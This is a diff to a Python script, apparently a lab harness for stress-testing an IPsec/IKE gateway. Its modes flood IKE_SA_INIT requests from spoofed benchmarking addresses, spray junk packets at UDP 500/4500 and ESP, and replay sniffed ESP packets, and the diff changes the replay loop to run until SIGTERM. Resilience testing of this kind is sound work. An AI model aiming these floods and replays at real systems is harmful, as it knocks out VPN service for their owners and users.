@@ -4,10 +4,11 @@
 flood.py init TARGET SECONDS    IKE_SA_INIT requests that look right, each from another source (198.18.0.0/15)
 flood.py stubborn TARGET COUNT  IKE_SA_INIT requests from one true address and many ports, which bring the cookie that is asked for
 flood.py junk TARGET COUNT      random bytes to UDP 500 and 4500 and in IP protocol 50, COUNT of each kind
-flood.py replay TARGET SECONDS DEVICE   sends each ESP packet (protocol 50) for TARGET that DEVICE receives twice more
+flood.py replay TARGET DEVICE   sends each ESP packet (protocol 50) for TARGET that DEVICE receives twice more, until it is told to end
 """
 import os
 import random
+import signal
 import socket
 import struct
 import sys
@@ -98,12 +99,15 @@ def flood_junk(target, count):
             time.sleep(0.002)
 
 
-def replay(target, seconds, device):
+# Until it is told to end; then it says how many.
+def replay(target, device):
     listener = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
     listener.bind((device, 0x0800))
     listener.settimeout(0.1)
-    sender, again, end = raw_socket(), 0, time.monotonic() + seconds
-    while time.monotonic() < end:
+    sender, again, ended = raw_socket(), 0, []
+    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
+    print("listening", file=sys.stderr, flush=True)
+    while not ended:
         try:
             packet, origin = listener.recvfrom(65535)
         except socket.timeout:
@@ -124,7 +128,7 @@ def main():
     elif what == "junk":
         flood_junk(target, int(sys.argv[3]))
     elif what == "replay":
-        replay(target, float(sys.argv[3]), sys.argv[4])
+        replay(target, sys.argv[3])
 
 
 main()
